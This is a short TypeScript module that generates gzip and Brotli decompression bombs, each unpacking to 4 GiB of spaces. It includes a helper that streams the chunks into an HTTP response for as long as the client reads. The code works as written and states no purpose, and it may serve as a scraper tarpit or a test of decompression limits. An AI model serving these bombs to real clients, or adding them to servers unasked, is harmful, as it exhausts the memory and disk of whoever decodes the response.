import type { ServerResponse } from 'node:http';
import { constants, createBrotliCompress, gzipSync } from 'node:zlib';

const MEBIBYTE = 1024 * 1024;

/** Four megabytes of gzip that unpack to 4 GiB of spaces: 64 members of 64 MiB. */
export function gzipBomb(): Buffer[] {
	return Array.from<Buffer>({ length: 64 }).fill(gzipSync(Buffer.alloc(64 * MEBIBYTE, 32)));
}

/** A few kilobytes of Brotli that unpack to 4 GiB of spaces: 16 MiB, then 255 repeats. */
export async function brotliBomb(): Promise<Buffer[]> {
	const compressor = createBrotliCompress({ params: { [constants.BROTLI_PARAM_QUALITY]: 5 } });
	const next = () =>
		new Promise<Buffer>((done) => {
			compressor.write(Buffer.alloc(16 * MEBIBYTE, 32));
			compressor.flush(() => {
				done((compressor.read() as Buffer | null) ?? Buffer.alloc(0));
			});
		});
	const [first, second, third] = [await next(), await next(), await next()];
	if (!second.equals(third))
		throw new Error('Brotli does not compress equal chunks equally any more. Build the bomb in another way.');
	return [first, ...Array.from<Buffer>({ length: 255 }).fill(second)];
}

/** Writes the chunks as long as the client reads. */
export function pour(response: ServerResponse, chunks: Iterable<Buffer>): void {
	const rest = chunks[Symbol.iterator]();
	const fill = () => {
		for (let chunk = rest.next(); !chunk.done; chunk = rest.next()) {
			if (response.destroyed) return;
			if (!response.write(chunk.value)) {
				response.once('drain', fill);
				return;
			}
		}
		response.end();
	};
	fill();
}
